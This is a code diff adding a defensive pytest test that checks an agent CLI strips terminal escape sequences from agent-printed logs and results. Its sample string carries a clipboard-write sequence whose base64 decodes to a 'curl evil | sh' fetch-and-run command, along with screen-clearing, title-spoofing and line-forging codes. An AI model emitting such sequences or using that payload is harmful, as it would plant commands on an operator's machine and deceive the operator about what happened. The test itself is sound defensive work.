@@ -142,3 +142,26 @@ async def test_no_host_secret_is_anywhere_the_container_can_read(host: Host, han
     assert b"[core]" in blob
     for value in [CANARY, *SECRETS.values(), TOKEN]:
         assert value.encode() not in blob, value
+
+
+def test_what_the_agent_prints_cannot_drive_the_operators_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    import io
+
+    from rich.console import Console
+    from rich.markup import escape as escape_markup
+
+    import web.cli_tasks as cli
+
+    hostile = "done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b]0;pwned\x07\rforged line\x9b31m"
+    # Unguarded: escaping rich markup alone hands the escape sequences to the terminal.
+    raw = io.StringIO()
+    Console(file=raw, force_terminal=True, highlight=False).print(escape_markup(hostile))
+    assert "\x1b]52;" in raw.getvalue() and "\x1b[2J" in raw.getvalue()
+
+    out = io.StringIO()
+    monkeypatch.setattr(cli, "console", Console(file=out, force_terminal=True, highlight=False, width=400))
+    cli.print_event({"type": "log", "ts": "2026-12-01T00:00:00Z", "data": {"text": hostile}})
+    cli.print_event({"type": "result", "ts": "2026-12-01T00:00:00Z", "data": {"summary": hostile}})
+    shown = out.getvalue()
+    assert "\x1b]" not in shown and "\x1b[2J" not in shown and "\x07" not in shown and "\x9b" not in shown
+    assert "\\x1b]52;c;" in shown and "forged line" in shown
